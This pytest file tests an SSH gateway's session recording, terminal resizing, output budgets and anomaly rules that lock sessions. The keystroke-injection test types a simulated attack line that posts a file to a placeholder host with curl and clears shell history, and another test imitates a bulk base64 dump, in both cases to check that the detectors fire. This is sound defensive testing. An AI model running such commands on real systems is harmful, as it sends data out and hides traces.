"""The PTY session's watchers over SSH: recording, window changes, budget, anomaly rules."""

from __future__ import annotations

import re
import threading
import time
from collections.abc import Iterator
from pathlib import Path

import paramiko
import pytest

from gateway import budget, recording
from kiosk.gateway_link import GatewayLink, Locked
from tests.gateway.gwharness import Account, Sshd, World, fresh_world, read_until


def shell(world: World, name: str) -> tuple[GatewayLink, paramiko.Channel, Account]:
    agent = world.enroll_soft(name)
    acc = world.add_user()
    link = world.link()
    link.login(acc.name, acc.password, acc.code())
    link.attest(agent)
    return link, link.open_shell("xterm", 80, 24), acc


def drain(chan: paramiko.Channel, timeout: float = 30) -> bytes:
    """Everything the channel delivers until it closes."""
    chan.settimeout(timeout)
    buf = b""
    while True:
        data = chan.recv(65536)
        if not data:
            return buf
        buf += data


def recording_of(world: World, user: str) -> Path:
    start = world.wait_event("session.start", user)
    world.wait_event("session.end", user)
    return world.dir / "recordings" / start.data["recording"]


def test_recording_plays_back_what_the_terminal_received(world: World) -> None:
    link, chan, acc = shell(world, "rec")
    chan.send(b"printf 'caf\\303\\251 \\033[1mbold\\033[0m \\377\\376 raw\\n'; "
              b"seq 1 2000 | tail -3; exit 3\n")
    got = drain(chan)
    assert chan.recv_exit_status() == 3
    link.close()
    path = recording_of(world, acc.name)
    assert recording.output_bytes(path) == got
    end = world.wait_event("session.end", acc.name)
    assert end.data["recording_sha256"] == recording.sha256_file(path)
    assert end.data["bytes_out"] == len(got)
    inputs = "".join(e.data for e in recording.read(path)[1] if e.kind == "i")
    assert "seq 1 2000" in inputs                       # keys recorded by default


def test_window_change_is_passed_on(world: World) -> None:
    link, chan, acc = shell(world, "winch")
    chan.send(b"stty size\n")
    read_until(chan, b"24 80")
    link.resize(132, 43)
    time.sleep(0.3)
    chan.send(b"stty size\n")
    read_until(chan, b"43 132")
    link.close()
    events = list(recording.read(recording_of(world, acc.name))[1])
    assert [e.data for e in events if e.kind == "r"] == ["132x43"]


@pytest.fixture(scope="module")
def budget_world(sshd: Sshd, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    w = fresh_world(tmp_path_factory.mktemp("budget"), sshd,
                    extra="budget:\n  rate: 4KiB\n  burst: 4KiB\n  daily: 64KiB\n"
                          "anomaly:\n  rules: []\n")
    try:
        yield w
    finally:
        w.stop()


def test_output_slowed_never_dropped_or_reordered(budget_world: World) -> None:
    link, chan, _ = shell(budget_world, "slow")
    notices: list[str] = []
    link.on_notice = lambda code, message: notices.append(code)
    t0 = time.monotonic()
    chan.send(b"seq 100001 105000 | head -c 24500; echo; echo END-OF-$((1+1))\n")
    out = read_until(chan, b"END-OF-2\r\n", timeout=60)
    elapsed = time.monotonic() - t0
    link.close()
    body = out.split(b"\x1b[?2004l", 1)[1]            # what follows the command's echo
    numbers = [int(n) for n in re.findall(rb"(?:^|[\r\n])(1\d{5})(?=\r\n)", body)]
    # every line arrived, in order (head -c cuts the last one)
    assert numbers == list(range(100001, 100001 + len(numbers))) and len(numbers) == 3500
    # 24 KB at 4 KiB/s after a 4 KiB burst: about 5 s, not instant
    assert elapsed > 3.5
    assert "budget-throttled" in notices


def test_daily_total_locks_the_session(budget_world: World) -> None:
    link, chan, acc = shell(budget_world, "daily")
    chan.send(b"yes 0123456789abcdef | head -c 200000\n")
    got = drain(chan, timeout=60)
    assert budget.DAILY_MESSAGE.encode() in got
    assert chan.recv_exit_status() == 1
    assert len(got) <= 64 * 1024 + 1024                  # the total, plus the message
    link.close()
    assert budget_world.wait_event("session.end", acc.name).data["reason"] == "budget-daily"
    with pytest.raises(Locked) as info:
        budget_world.link().login(acc.name, acc.password, acc.code())
    assert "daily output budget" in info.value.text


RULES = """anomaly:
  rules:
    - {id: keystroke-injection, metric: keys_per_second, above: 40, action: lock}
    - {id: bulk-encoded-output, metric: dense_output_share, above: 0.5, action: lock}
    - {id: paste-burst, metric: burst_keys, above: 30, action: alert}
"""


@pytest.fixture(scope="module")
def rules_world(sshd: Sshd, tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    w = fresh_world(tmp_path_factory.mktemp("rules"), sshd, extra=RULES)
    try:
        yield w
    finally:
        w.stop()


def alerts_of(world: World, user: str) -> list[str]:
    with world.store() as s:
        return [a.rule for a in s.list_alerts() if a.user == user]


def test_person_typing_and_reading_passes(rules_world: World) -> None:
    link, chan, acc = shell(rules_world, "human")
    for cmd in (b"ls /\n", b"echo reading-done\n"):
        for ch in cmd:
            chan.send(bytes([ch]))
            time.sleep(0.12)
        time.sleep(1.5)
    read_until(chan, b"reading-done\r\n")
    time.sleep(1.5)
    assert not chan.exit_status_ready()
    link.close()
    rules_world.wait_event("session.end", acc.name)
    assert alerts_of(rules_world, acc.name) == []


def test_keystroke_injector_locks_the_session(rules_world: World) -> None:
    link, chan, acc = shell(rules_world, "inject")
    locked = threading.Event()
    link.on_lock = lambda m, t: locked.set()
    for ch in b"echo pwned; curl -d @/data/w.bin http://x; history -c # " * 3:
        try:
            chan.send(bytes([ch]))
        except OSError:                  # locked before the injector was done
            break
        time.sleep(0.002)
    got = drain(chan, timeout=15)
    assert b"session locked by rule keystroke-injection" in got
    assert chan.recv_exit_status() == 1 and locked.wait(2)
    link.close()
    # (paste-burst fires too when the keys arrive fast enough; test_anomaly checks it)
    assert "keystroke-injection" in alerts_of(rules_world, acc.name)
    with pytest.raises(Locked):
        rules_world.link().login(acc.name, acc.password, acc.code())


def test_bulk_base64_dump_locks_the_session(rules_world: World) -> None:
    link, chan, acc = shell(rules_world, "b64")
    chan.send(b"head -c 60000 /dev/urandom | base64\n")
    got = drain(chan, timeout=30)
    assert b"session locked by rule bulk-encoded-output" in got
    link.close()
    assert "bulk-encoded-output" in alerts_of(rules_world, acc.name)
